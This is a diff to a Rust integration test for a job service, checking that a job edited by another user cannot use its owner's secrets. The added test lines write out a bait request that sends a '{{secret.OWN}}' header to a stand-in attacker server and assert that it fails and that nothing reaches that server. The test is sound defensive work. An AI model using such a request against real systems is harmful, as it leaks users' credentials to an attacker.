@@ -539,11 +539,19 @@ async fn whoever_edits_a_job_gets_none_of_its_owners_secrets(engine: Engine) {
         "secret_unresolved"
     );
     assert!(stage.evil.seen().is_empty());
-    // The owner takes it back by saying what it sends.
-    let back = json!({"request": {"url": stage.allowed.url("/v1/x")}});
+    // Nor does the owner's next edit lend what the editor has written the owner's own secrets: a job of several is nobody's.
+    let said = json!({"name": "seen by its owner"});
     owner
-        .patch(&format!("/v1/jobs/{job}"), &back)
+        .patch(&format!("/v1/jobs/{job}"), &said)
         .await
         .expect(200);
-    assert_eq!(owner.run(&job).await["status"], "succeeded");
+    assert_eq!(owner.run(&job).await["status"], "failed");
+    let bait = json!({"url": stage.evil.url("/v1/x"), "headers": {"X-Key": "{{secret.OWN}}"}});
+    let job = editor.manual("bait", bait).await;
+    owner
+        .patch(&format!("/v1/jobs/{job}"), &said)
+        .await
+        .expect(200);
+    assert_eq!(editor.run(&job).await["status"], "failed");
+    assert!(stage.evil.seen().is_empty());
 }
